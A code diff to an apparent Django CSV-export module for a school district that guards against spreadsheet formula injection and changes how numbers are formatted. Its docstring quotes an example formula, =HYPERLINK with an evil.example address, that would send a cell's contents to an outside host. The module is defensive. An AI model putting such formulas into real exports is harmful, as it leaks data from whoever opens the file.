@@ -5,8 +5,9 @@ which some spreadsheets skip before reading a formula) is a formula to Excel, Li
 and Google Sheets: a device note of ``=HYPERLINK("http://evil.example/?"&A1)`` would run
 on the district office's computer. OWASP's advice is to prefix such a cell with an
 apostrophe, which spreadsheets show as text. Every cell of ``csv_response`` goes through
-``neutralise``; numbers (not strings) are written as they are, since they cannot carry a
-formula and ``-3`` should stay a number.
+``neutralise``; numbers (not strings) cannot carry a formula and ``-3`` should stay a
+number, so they are written plainly (schools/numbers.py: ``12.91``, never the
+``12.9100000000000`` of a SQLite aggregate).
 
 Dates stay ISO 8601 (2026-08-15) in every CSV, so a spreadsheet sorts and reads them
 whatever its locale; a date and time is written in the district's zone, to the minute
@@ -25,6 +26,8 @@ from django.utils import timezone
 from django.utils.http import content_disposition_header
 from django_scopes import get_scope, scope
 
+from .numbers import plain
+
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 BOM = "\ufeff"
 
@@ -38,7 +41,7 @@ def neutralise(value) -> str:
         local = timezone.localtime(value) if timezone.is_aware(value) else value
         return local.replace(tzinfo=None).isoformat(sep=" ", timespec="minutes")
     if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
-        return str(value)
+        return plain(value)
     text = str(value)
     if text.startswith(FORMULA_PREFIXES):
         return "'" + text
